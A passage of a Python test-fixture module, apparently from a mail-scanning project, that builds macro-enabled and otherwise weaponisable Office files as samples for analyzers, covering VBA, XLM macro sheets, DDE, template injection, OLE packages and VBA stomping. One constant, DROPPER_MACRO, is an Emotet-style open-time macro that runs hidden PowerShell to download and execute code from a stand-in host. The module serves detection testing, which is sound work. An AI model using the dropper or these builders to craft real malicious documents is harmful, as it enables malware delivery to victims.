"""Deterministic macro-enabled Office files for samples and tests.

`vbaProject.bin` comes from ms-ovba (a test dependency), which writes real MS-OVBA
streams that olevba parses; it works on files in the current directory, so it runs in a
private temporary directory. The OOXML package around it is the minimum Office and
olevba recognise, with fixed timestamps so that output is byte-for-byte stable.
"""

from __future__ import annotations

import io
import os
import random
import tempfile
import uuid
import zipfile
from pathlib import Path

_FIXED_DATE = (2022, 3, 1, 9, 0, 0)
_CLASS_HEADER = (
    "VERSION 1.0 CLASS\nBEGIN\n  MultiUse = -1  'True\nEND\n"
    'Attribute VB_Name = "{name}"\nAttribute VB_GlobalNameSpace = False\n'
    "Attribute VB_Creatable = False\nAttribute VB_PredeclaredId = True\n"
    "Attribute VB_Exposed = True\n"
)
# Host document module names and the type GUIDs Office gives them.
_HOSTS = {
    "word": ("ThisDocument", "00020906-0000-0000-C000-000000000046"),
    "excel": ("ThisWorkbook", "00020819-0000-0000-C000-000000000046"),
}


def build_vba_project(
    *, host: str = "word", document_code: str = "", modules: dict[str, str] | None = None
) -> bytes:
    """A vbaProject.bin whose host document module holds `document_code`."""
    from ms_ovba.Models.Entities.doc_module import DocModule
    from ms_ovba.Models.Entities.std_module import StdModule
    from ms_ovba.vbaProject import VbaProject
    from ms_ovba.Views.project_ole_file import ProjectOleFile

    doc_name, doc_guid = _HOSTS[host]
    previous = Path.cwd()
    # ms-ovba draws the PROJECT stream's obfuscation seeds from `random`: pin them.
    state = random.getstate()
    random.seed(20220301)
    with tempfile.TemporaryDirectory() as work:
        os.chdir(work)
        try:
            project = VbaProject()
            project.project_id = "{9E394C0B-697E-4AEE-9FA6-446F51FB30DC}"
            cls = Path(f"{doc_name}.cls")
            cls.write_text(_CLASS_HEADER.format(name=doc_name) + document_code, encoding="ascii")
            document = DocModule(doc_name)
            document.add_file(str(cls))
            document.add_guid(uuid.UUID(doc_guid))
            document.normalize_file()
            project.add_module(document)
            for name, code in sorted((modules or {}).items()):
                bas = Path(f"{name}.bas")
                bas.write_text(f'Attribute VB_Name = "{name}"\n' + code, encoding="ascii")
                module = StdModule(name)
                module.add_file(str(bas))
                module.normalize_file()
                project.add_module(module)
            ProjectOleFile.write_file(project)
            return Path("vbaProject.bin").read_bytes()
        finally:
            os.chdir(previous)
            random.setstate(state)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


_CT = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _rels(rel_type: str, target: str) -> bytes:
    return (
        _CT + f'<Relationships xmlns="{_PKG}/relationships">'
        f'<Relationship Id="rId1" Type="{rel_type}" Target="{target}"/></Relationships>'
    ).encode()


def _package(
    folder: str,
    main_name: str,
    main_type: str,
    main_xml: str,
    vba: bytes,
    parts: tuple[tuple[str, bytes], ...] = (),
    main_rels: str = "",
) -> bytes:
    """An OOXML package: one main part that references `<folder>/vbaProject.bin` (and
    `main_rels`, more Relationship elements), and `parts` (name, bytes) as they are."""
    content_types = (
        _CT + f'<Types xmlns="{_PKG}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{folder}/{main_name}" ContentType="{main_type}"/></Types>'
    )
    return _zip(
        [
            ("[Content_Types].xml", content_types.encode()),
            ("_rels/.rels", _rels(f"{_DOC_REL}/officeDocument", f"{folder}/{main_name}")),
            (f"{folder}/{main_name}", (_CT + main_xml).encode()),
            (
                f"{folder}/_rels/{main_name}.rels",
                _rels(_VBA_REL, "vbaProject.bin").replace(
                    b"</Relationships>", main_rels.encode() + b"</Relationships>"
                ),
            ),
            (f"{folder}/vbaProject.bin", vba),
            *parts,
        ]
    )


def _ole_with_contents(contents: bytes) -> bytes:
    from .msg_writer import write_ole

    return write_ole([(["contents"], contents)])


def build_docm(
    vba_project: bytes,
    text: str = "Invoice",
    variables: dict[str, str] | None = None,
    controls: dict[str, str] | None = None,
) -> bytes:
    """A minimal macro-enabled Word document (.docm); `variables` become document
    variables (word/settings.xml), `controls` ActiveX TextBoxes (`name -> value`) placed
    in the body (`w:control`, word/activeX/activeXN.xml and .bin)."""
    placed = "".join(
        f'<w:p><w:r><w:control r:id="rIdX{n}" w:name="{name}"/></w:r></w:p>'
        for n, name in enumerate(controls or {}, start=1)
    )
    relationships = f' xmlns:r="{_DOC_REL}"' if controls else ""
    document = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        f"{relationships}>"
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>{placed}</w:body></w:document>"
    )
    main_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    parts: tuple[tuple[str, bytes], ...] = ()
    main_rels = "".join(
        f'<Relationship Id="rIdX{n}" Type="{_DOC_REL}/control" Target="activeX/activeX{n}.xml"/>'
        for n in range(1, len(controls or {}) + 1)
    )
    if controls:
        for n, value in enumerate(controls.values(), start=1):
            binary_rel = (
                _CT + f'<Relationships xmlns="{_PKG}/relationships"><Relationship Id="rId1" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary"'
                f' Target="activeX{n}.bin"/></Relationships>'
            )
            parts += (
                (f"word/activeX/activeX{n}.xml", (_CT + "<ax:ocx xmlns:ax=\"x\"/>").encode()),
                (f"word/activeX/_rels/activeX{n}.xml.rels", binary_rel.encode()),
                (f"word/activeX/activeX{n}.bin", _ole_with_contents(morph_data(value))),
            )
    if variables:
        from xml.sax.saxutils import quoteattr

        items = "".join(
            f"<w:docVar w:name={quoteattr(k)} w:val={quoteattr(v)}/>" for k, v in variables.items()
        )
        settings = (
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:docVars>{items}</w:docVars></w:settings>"
        )
        parts += (("word/settings.xml", (_CT + settings).encode()),)
    return _package("word", "document.xml", main_type, document, vba_project, parts, main_rels)


def build_xlsm(vba_project: bytes) -> bytes:
    """A minimal macro-enabled Excel workbook (.xlsm)."""
    workbook = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheets/></workbook>"
    )
    main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return _package("xl", "workbook.xml", main_type, workbook, vba_project)


# Emotet-style: runs on open and starts a program.
DROPPER_MACRO = (
    "Sub Document_Open()\n"
    "    Dim s As String\n"
    '    s = "powershell -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/p\')"""\n'
    "    Shell s, 0\n"
    "End Sub\n"
)
# A business macro: runs on open but only formats cells.
FORMATTING_MACRO = (
    'Private Sub Workbook_Open()\n    Worksheets(1).Range("A1:D1").Font.Bold = True\nEnd Sub\n'
)


# --- Office payloads beyond VBA (tests of mailcheck.analyzers.office) -----------------------
# Each builder writes the smallest structure the relevant parser (and Office) looks at.

_WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = f"{_DOC_REL}"


def _relationships(rels: list[tuple[str, str, bool]]) -> bytes:
    """A .rels part: (type, target, external) per relationship, numbered rId1..."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{rel_type}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (rel_type, target, external) in enumerate(rels, 1)
    )
    return (_CT + f'<Relationships xmlns="{_PKG}/relationships">{items}</Relationships>').encode()


def _content_types(overrides: list[tuple[str, str]]) -> bytes:
    items = "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides)
    return (
        _CT + f'<Types xmlns="{_PKG}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f"{items}</Types>"
    ).encode()


def build_docx(
    body: str = "<w:p><w:r><w:t>Invoice</w:t></w:r></w:p>",
    *,
    document_rels: list[tuple[str, str, bool]] | None = None,
    settings_rels: list[tuple[str, str, bool]] | None = None,
    settings: str = "",
) -> bytes:
    """A Word document with `body` inside <w:body>, optional relationships and settings."""
    main_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    settings_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
    doc_rels = [(f"{_DOC_REL}/settings", "settings.xml", False), *(document_rels or [])]
    parts = [
        (
            "[Content_Types].xml",
            _content_types(
                [("word/document.xml", main_type), ("word/settings.xml", settings_type)]
            ),
        ),
        ("_rels/.rels", _rels(f"{_DOC_REL}/officeDocument", "word/document.xml")),
        (
            "word/document.xml",
            (
                _CT + f'<w:document xmlns:w="{_WORD_NS}" xmlns:r="{_REL_NS}">'
                f"<w:body>{body}</w:body></w:document>"
            ).encode(),
        ),
        ("word/_rels/document.xml.rels", _relationships(doc_rels)),
        (
            "word/settings.xml",
            (
                _CT + f'<w:settings xmlns:w="{_WORD_NS}" xmlns:r="{_REL_NS}">{settings}'
                "</w:settings>"
            ).encode(),
        ),
    ]
    if settings_rels:
        parts.append(("word/_rels/settings.xml.rels", _relationships(settings_rels)))
    return _zip(parts)


_PML_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
_DML_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"


def build_pptx(
    links: list[tuple[str, str, str]] | None = None,
    *,
    show: bool = False,
) -> bytes:
    """A one-slide presentation whose title shape carries each (trigger, action, target):
    trigger `hlinkClick` or `hlinkMouseOver`, action e.g. `ppaction://program` or "" (a
    plain hyperlink). `show`: a .ppsx (opens as a slide show)."""
    kind = "slideshow" if show else "presentation"
    main_type = f"application/vnd.openxmlformats-officedocument.presentationml.{kind}.main+xml"
    slide_type = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
    runs = "".join(
        f'<a:r><a:rPr lang="ja-JP"><a:{trigger} r:id="rId{n}"'
        + (f' action="{action}"' if action else "")
        + f"/></a:rPr><a:t>Link {n}</a:t></a:r>"
        for n, (trigger, action, _target) in enumerate(links or [], 1)
    )
    slide = (
        _CT + f'<p:sld xmlns:p="{_PML_NS}" xmlns:a="{_DML_NS}" xmlns:r="{_REL_NS}"><p:cSld>'
        '<p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Title 1"/><p:cNvSpPr/><p:nvPr/>'
        f"</p:nvSpPr><p:txBody><a:p><a:r><a:t>Quarterly results</a:t></a:r>{runs}</a:p>"
        "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    hyperlink = f"{_DOC_REL}/hyperlink"
    presentation = (
        _CT + f'<p:presentation xmlns:p="{_PML_NS}" xmlns:r="{_REL_NS}">'
        '<p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>'
    )
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    [("ppt/presentation.xml", main_type), ("ppt/slides/slide1.xml", slide_type)]
                ),
            ),
            ("_rels/.rels", _rels(f"{_DOC_REL}/officeDocument", "ppt/presentation.xml")),
            ("ppt/presentation.xml", presentation.encode()),
            (
                "ppt/_rels/presentation.xml.rels",
                _relationships([(f"{_DOC_REL}/slide", "slides/slide1.xml", False)]),
            ),
            ("ppt/slides/slide1.xml", slide.encode()),
            (
                "ppt/slides/_rels/slide1.xml.rels",
                _relationships([(hyperlink, target, True) for _t, _a, target in links or []]),
            ),
        ]
    )


def build_template_docx(target: str) -> bytes:
    """A .docx that loads its template from `target` when opened (template injection)."""
    return build_docx(
        settings='<w:attachedTemplate r:id="rId1"/>',
        settings_rels=[(f"{_DOC_REL}/attachedTemplate", target, True)],
    )


def build_dde_docx(instruction: str, *, simple: bool = False) -> bytes:
    """A .docx with one field whose code is `instruction` (e.g. a DDEAUTO command)."""
    escaped = instruction.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    if simple:
        body = f'<w:p><w:fldSimple w:instr="{escaped}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    else:
        body = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{escaped}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    return build_docx(body)


def build_xlsm_macrosheet(
    formulas: dict[str, str],
    *,
    defined_names: dict[str, str] | None = None,
    state: str = "veryHidden",
    vba_project: bytes | None = None,
) -> bytes:
    """A workbook with one Excel 4.0 macro sheet "Macro1" whose cells hold `formulas`.

    `defined_names` maps a name (e.g. "_xlnm.Auto_Open") to what it refers to.
    """
    macro_type = "application/vnd.ms-excel.macrosheet+xml"
    main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    names = "".join(
        f'<definedName name="{name}" hidden="1">{ref}</definedName>'
        for name, ref in (defined_names or {}).items()
    )
    workbook = (
        _CT + f'<workbook xmlns="{_SHEET_NS}" xmlns:r="{_REL_NS}"><sheets>'
        f'<sheet name="Macro1" sheetId="1" state="{state}" r:id="rId1"/></sheets>'
        + (f"<definedNames>{names}</definedNames>" if names else "")
        + "</workbook>"
    )
    cells = "".join(
        f'<row r="{ref[1:]}"><c r="{ref}"><f>{formula.replace("&", "&amp;")}</f></c></row>'
        for ref, formula in formulas.items()
    )
    sheet = (
        _CT + '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        f"<sheetData>{cells}</sheetData></xm:macrosheet>"
    )
    rels: list[tuple[str, str, bool]] = [
        (
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
            "macrosheets/sheet1.xml",
            False,
        ),
    ]
    parts = [
        (
            "[Content_Types].xml",
            _content_types(
                [("xl/workbook.xml", main_type), ("xl/macrosheets/sheet1.xml", macro_type)]
            ),
        ),
        ("_rels/.rels", _rels(f"{_DOC_REL}/officeDocument", "xl/workbook.xml")),
        ("xl/workbook.xml", workbook.encode()),
        ("xl/macrosheets/sheet1.xml", sheet.encode()),
    ]
    if vba_project is not None:
        rels.append((_VBA_REL, "vbaProject.bin", False))
        parts.append(("xl/vbaProject.bin", vba_project))
    parts.append(("xl/_rels/workbook.xml.rels", _relationships(rels)))
    return _zip(parts)


# BIFF8 (MS-XLS): record ids and the built-in function numbers used below.
_BOF, _EOF, _BOUNDSHEET, _LBL, _FORMULA = 0x0809, 0x000A, 0x0085, 0x0018, 0x0006
_EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"  # Excel 97-2003 workbook
_XLM_FUNCTIONS = {"EXEC": 0x006E, "CALL": 0x0096, "REGISTER": 0x0095, "HALT": 0x0036}


def _biff(record: int, data: bytes) -> bytes:
    return record.to_bytes(2, "little") + len(data).to_bytes(2, "little") + data


def _xlm_call(function: str, args: tuple[str, ...]) -> bytes:
    """Parsed formula (rgce): string arguments, then ptgFuncVarV calling `function`."""
    rgce = b""
    for arg in args:
        raw = arg.encode("latin-1")
        rgce += b"\x17" + bytes([len(raw), 0]) + raw  # ptgStr, 8-bit characters
    return rgce + b"\x42" + bytes([len(args)]) + _XLM_FUNCTIONS[function].to_bytes(2, "little")


def build_xls_xlm(
    calls: list[tuple[str, tuple[str, ...]]],
    *,
    auto_open: bool = True,
    hidden: int = 1,
    excel_clsid: bool = True,
) -> bytes:
    """An .xls (BIFF8 in an OLE file) with one Excel 4.0 macro sheet of formula cells.

    Only the records parsers look at: BOF/BOUNDSHEET/NAME/EOF in the globals, then the macro
    sheet's BOF, one FORMULA record per call in column A, EOF.
    """
    from extract_msg.ole_writer import OleWriter

    bof_globals = _biff(
        _BOF, (0x0600).to_bytes(2, "little") + (0x0005).to_bytes(2, "little") + bytes(12)
    )
    name = b"Macro1"
    sheet_len = 4 + 6 + 2 + len(name)
    lbl = b""
    if auto_open:
        # fBuiltin | fHidden, built-in name 0x01 (Auto_Open) referring to Macro1!A1 (ptgRef3d).
        formula = b"\x3a" + bytes(2) + bytes(2) + bytes(2)
        head = (
            (0x0021).to_bytes(2, "little") + b"\x00" + b"\x01" + len(formula).to_bytes(2, "little")
        )
        lbl = _biff(_LBL, head + bytes(2) + bytes(2) + bytes(4) + b"\x00\x01" + formula)
    eof = _biff(_EOF, b"")
    sheet_at = len(bof_globals) + sheet_len + len(lbl) + len(eof)
    boundsheet = _biff(
        _BOUNDSHEET,
        sheet_at.to_bytes(4, "little") + bytes([hidden, 1, len(name), 0]) + name,
    )
    globals_ = bof_globals + boundsheet + lbl + eof
    sheet = _biff(_BOF, (0x0600).to_bytes(2, "little") + (0x0040).to_bytes(2, "little") + bytes(12))
    for row, (function, args) in enumerate(calls):
        rgce = _xlm_call(function, args)
        cell = row.to_bytes(2, "little") + bytes(2) + bytes(2)
        sheet += _biff(
            _FORMULA, cell + bytes(8) + bytes(2) + bytes(4) + len(rgce).to_bytes(2, "little") + rgce
        )
    sheet += _biff(_EOF, b"")
    writer = OleWriter(rootClsid=uuid.UUID(_EXCEL_CLSID).bytes_le if excel_clsid else bytes(16))
    writer.addEntry(["Workbook"], data=globals_ + sheet)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def ole1_object(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object (the form RTF \\objdata carries)."""
    cls = class_name.encode("latin-1") + b"\x00"
    return (
        (0x0501).to_bytes(4, "little")  # OLEVersion
        + (2).to_bytes(4, "little")  # FormatID: embedded
        + len(cls).to_bytes(4, "little")
        + cls
        + bytes(8)  # empty topic and item names
        + len(native).to_bytes(4, "little")
        + native
    )


def ole_package(filename: str, payload: bytes) -> bytes:
    """Native data of a "Package" object (Ole10Native) that drops `filename`."""
    name = filename.encode("latin-1") + b"\x00"
    path = f"C:\\Users\\Public\\{filename}".encode("latin-1") + b"\x00"
    body = (
        b"\x02\x00"
        + name
        + path
        + (0x00030000).to_bytes(4, "little")
        + len(path).to_bytes(4, "little")
        + path
        + len(payload).to_bytes(4, "little")
        + payload
    )
    return body  # a Package's native data has no size prefix of its own


def package_ole(filename: str, payload: bytes) -> bytes:
    """An OLE Package object as OOXML embeds it (`oleObject1.bin`): class Package, the
    file in its `\x01Ole10Native` stream (size-prefixed)."""
    from extract_msg.ole_writer import OleWriter

    native = ole_package(filename, payload)
    clsid = uuid.UUID("0003000C-0000-0000-C000-000000000046").bytes_le
    writer = OleWriter(rootClsid=clsid)
    writer.addEntry(["\x01Ole10Native"], data=len(native).to_bytes(4, "little") + native)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def embedded_excel_ole() -> bytes:
    """An embedded Excel 97 sheet as OOXML keeps it (`oleObject1.bin`): not a Package."""
    from extract_msg.ole_writer import OleWriter

    clsid = uuid.UUID("00020820-0000-0000-C000-000000000046").bytes_le
    writer = OleWriter(rootClsid=clsid)
    writer.addEntry(["\x01Ole"], data=b"\x01\x00\x00\x02" + bytes(16))
    bof = _biff(_BOF, (0x0600).to_bytes(2, "little") + (0x0005).to_bytes(2, "little") + bytes(12))
    writer.addEntry(["Workbook"], data=bof + _biff(_EOF, b""))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def build_docx_with_object(ole_object: bytes, name: str = "oleObject1.bin") -> bytes:
    """A .docx with `ole_object` embedded (as an icon) in its body, the way Word keeps an
    inserted object: `word/embeddings/<name>` and an oleObject relationship."""
    rel = f"{_DOC_REL}/oleObject"
    body = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
        'ObjectID="_1700000000" r:id="rId2"/></w:object></w:r></w:p>'
    )
    docx = build_docx(body, document_rels=[(rel, f"embeddings/{name}", False)])
    buffer = io.BytesIO(docx)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo(f"word/embeddings/{name}", date_time=_FIXED_DATE)
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, ole_object)
    return buffer.getvalue()


def equation_ole() -> bytes:
    """An OLE file with the Equation Editor 3.0 CLSID (the CVE-2017-11882 carrier)."""
    from extract_msg.ole_writer import OleWriter

    clsid = uuid.UUID("0002CE02-0000-0000-C000-000000000046").bytes_le
    writer = OleWriter(rootClsid=clsid)
    writer.addEntry(["\x01Ole10Native"], data=(8).to_bytes(4, "little") + b"\x1c\x00" + bytes(6))
    writer.addEntry(["Equation Native"], data=b"\x1c\x00\x00\x00" + bytes(64))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def build_rtf(
    objects: tuple[bytes, ...] = (), *, template: str = "", text: str = "Invoice"
) -> bytes:
    """An RTF document with each OLE 1.0 object in an \\object\\objemb group."""
    groups = "".join(
        "{\\object\\objemb{\\*\\objclass x}{\\*\\objdata " + obj.hex() + "}}" for obj in objects
    )
    tmpl = "{\\*\\template " + template + "}" if template else ""
    return ("{\\rtf1\\ansi" + tmpl + "\\pard " + text + groups + "\\par}").encode("latin-1")


def build_encrypted_ooxml(package: bytes, password: str) -> bytes:
    """`package` encrypted as Office does (ECMA-376 agile), via msoffcrypto-tool.

    The salts are random, so the bytes differ on every call (tests only, never samples).
    """
    from msoffcrypto.format.ooxml import OOXMLFile

    # msoffcrypto-tool 6.1 writes packages under 4 KiB into the wrong OLE stream type and
    # cannot read them back: pad with a stored, incompressible member first.
    if len(package) < 4096:
        buffer = io.BytesIO(package)
        with zipfile.ZipFile(buffer, "a") as archive:
            info = zipfile.ZipInfo("docProps/padding.bin", date_time=_FIXED_DATE)
            archive.writestr(info, random.Random(4096).randbytes(4096))
        package = buffer.getvalue()
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(package)).encrypt(password, out)
    return out.getvalue()


def stomp_vba(package: bytes, module: str, source: str) -> bytes:
    """`package` (a macro-enabled OOXML file saved by Office) with the source of VBA
    `module` replaced by `source` while its compiled p-code stays: VBA stomping.

    Needs a project that carries p-code, i.e. one saved by Office (ms-ovba writes none).
    """
    import olefile
    from extract_msg.ole_writer import OleWriter
    from ms_ovba_compression.ms_ovba import MsOvba
    from oletools.olevba import VBA_Project

    members = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        for info in archive.infolist():
            members.append((info, archive.read(info)))
    index, (vba_info, vba) = next(
        (i, m) for i, m in enumerate(members) if m[0].filename.lower().endswith("vbaproject.bin")
    )
    ole = olefile.OleFileIO(vba)
    project = VBA_Project(ole, "", "PROJECT", "VBA/dir")
    project.parse_project_stream()
    offsets = {
        path: project.modules[-1].textoffset for path, _name, _code in project.parse_modules()
    }
    path = f"VBA/{module}"
    stream = ole.openstream(path).read()
    code = (f'Attribute VB_Name = "{module}"\r\n' + source).encode("latin-1")
    writer = OleWriter()
    writer.fromOleFile(ole)
    writer.editEntry(path.split("/"), data=stream[: offsets[path]] + MsOvba().compress(code))
    out = io.BytesIO()
    writer.write(out)
    ole.close()
    members[index] = (vba_info, out.getvalue())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            archive.writestr(info, data)
    return buffer.getvalue()


def build_stomped_vba_project(visible_code: str, pcode_strings: tuple[str, ...]) -> bytes:
    """A Word vbaProject.bin whose ThisDocument source is `visible_code` while its p-code
    (the performance cache Office runs when its version matches) pushes `pcode_strings`.

    ms-ovba writes no p-code, so this adds the smallest module p-code that pcodedmp
    disassembles: a header whose table offsets point at empty tables, the 0xCAFE line table,
    and one `LitStr` instruction per string. The _VBA_PROJECT version is set to Office 2016
    64-bit's (ms-ovba writes 0xFFFF, "no cache"). It is stomping as olevba and mailcheck
    read it (source and p-code disagree), not a file checked to run in Office.
    """
    import olefile
    from extract_msg.ole_writer import OleWriter
    from ms_ovba_compression.ms_ovba import MsOvba

    ovba = MsOvba()
    vba = build_vba_project(document_code=visible_code)
    ole = olefile.OleFileIO(vba)
    directory = bytearray(ovba.decompress(ole.openstream("VBA/dir").read()))
    win64 = b"\x01\x00\x04\x00\x00\x00\x03\x00\x00\x00" in directory  # PROJECTSYSKIND 3
    lit_str = 185 if win64 else 182  # pcodedmp's opcode numbering differs for 32-bit VBA7
    lines = []
    for text in pcode_strings:
        raw = text.encode("latin-1")
        lines.append(
            lit_str.to_bytes(2, "little")
            + len(raw).to_bytes(2, "little")
            + raw
            + b"\x00" * (len(raw) & 1)
        )
    header = bytearray(0xA6)
    header[0x19:0x1D] = (0xA0 - 0x3C).to_bytes(4, "little")  # line table at 0xA0
    header[0xA0:0xA2] = (0xCAFE).to_bytes(2, "little")
    header[0xA4:0xA6] = len(lines).to_bytes(2, "little")
    table, code, offset = b"", b"", 0
    for line in lines:
        table += (
            bytes(4) + len(line).to_bytes(2, "little") + bytes(2) + offset.to_bytes(4, "little")
        )
        code += line
        offset += len(line)
    pcode = bytes(header) + table + bytes(10) + code
    record = b"\x31\x00\x04\x00\x00\x00"  # MODULEOFFSET of the only module
    at = directory.index(record) + len(record)
    old_offset = int.from_bytes(directory[at : at + 4], "little")
    directory[at : at + 4] = len(pcode).to_bytes(4, "little")
    source = ole.openstream("VBA/ThisDocument").read()[old_offset:]
    project = bytearray(ole.openstream("VBA/_VBA_PROJECT").read())
    project[2:4] = (0x00D7 if win64 else 0x00B2).to_bytes(2, "little")
    writer = OleWriter()
    writer.fromOleFile(ole)
    writer.editEntry(["VBA", "dir"], data=ovba.compress(bytes(directory)))
    writer.editEntry(["VBA", "ThisDocument"], data=pcode + source)
    writer.editEntry(["VBA", "_VBA_PROJECT"], data=bytes(project))
    ole.close()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def build_flat_opc(vba_project: bytes) -> bytes:
    """A Word 2007+ XML document ("Flat OPC", one .xml file) carrying `vba_project`."""
    import base64

    pkg = "http://schemas.microsoft.com/office/2006/xmlPackage"
    return (
        '<?xml version="1.0" standalone="yes"?>\n'
        '<?mso-application progid="Word.Document"?>\n'
        f'<pkg:package xmlns:pkg="{pkg}">'
        '<pkg:part pkg:name="/word/vbaProject.bin" '
        'pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>'
        + base64.b64encode(vba_project).decode("ascii")
        + "</pkg:binaryData></pkg:part></pkg:package>\n"
    ).encode("ascii")


def flat_opc_of(package: bytes) -> bytes:
    """The OOXML `package` saved as one XML file ("Flat OPC", as Word's "Word XML Document"
    writes it): XML parts inline, the other parts in base64."""
    import base64

    pkg = "http://schemas.microsoft.com/office/2006/xmlPackage"
    parts = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        for name in archive.namelist():
            if name == "[Content_Types].xml":
                continue
            data = archive.read(name)
            if name.endswith((".xml", ".rels")):
                content_type = (
                    "application/vnd.openxmlformats-package.relationships+xml"
                    if name.endswith(".rels")
                    else "application/xml"
                )
                xml = data.decode("utf-8").split("?>", 1)[-1].strip()
                body = f"<pkg:xmlData>{xml}</pkg:xmlData>"
            else:
                content_type = "application/octet-stream"
                body = f"<pkg:binaryData>{base64.b64encode(data).decode('ascii')}</pkg:binaryData>"
            parts.append(
                f'<pkg:part pkg:name="/{name}" pkg:contentType="{content_type}">{body}</pkg:part>'
            )
    return (
        '<?xml version="1.0" standalone="yes"?>\n'
        '<?mso-application progid="Word.Document"?>\n'
        f'<pkg:package xmlns:pkg="{pkg}">' + "".join(parts) + "</pkg:package>\n"
    ).encode("utf-8")


def build_word2003_xml(*, template: str = "", text: str = "Invoice") -> bytes:
    """A Word 2003 XML document (`w:wordDocument`), its template named in `w:docPr`."""
    docpr = f'<w:docPr><w:attachedTemplate w:val="{template}"/></w:docPr>' if template else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<?mso-application progid="Word.Document"?>\n'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f"{docpr}<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:wordDocument>\n"
    ).encode()


# --- a binary Word document (.doc) with its text in a piece table ------------------------------


def _word_fib(text_length: int, text_offset: int) -> bytes:
    """A Word 97 FIB whose Clx is at 0 in 1Table and whose text is `text_length` 8-bit
    characters at `text_offset` of the WordDocument stream (MS-DOC 2.5)."""
    import struct

    fib = bytearray(0x9A + 93 * 8)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)  # wIdent, nFib (Word 97)
    struct.pack_into("<H", fib, 0x0A, 0x0200)  # fWhichTblStm: 1Table
    struct.pack_into("<H", fib, 0x20, 14)  # csw
    struct.pack_into("<H", fib, 0x3E, 22)  # cslw
    struct.pack_into("<i", fib, 0x4C, text_length)  # ccpText
    struct.pack_into("<H", fib, 0x98, 93)  # cbRgFcLcb
    struct.pack_into("<II", fib, 0x9A + 33 * 8, 0, 21)  # fcClx, lcbClx
    return bytes(fib)


def morph_data(value: str) -> bytes:
    """An MS-OFORMS MorphDataControl (a TextBox's `contents` stream) holding `value`."""
    import struct

    text = value.encode("cp1252")
    body = struct.pack("<Q", 1 << 22)  # PropMask: fValue
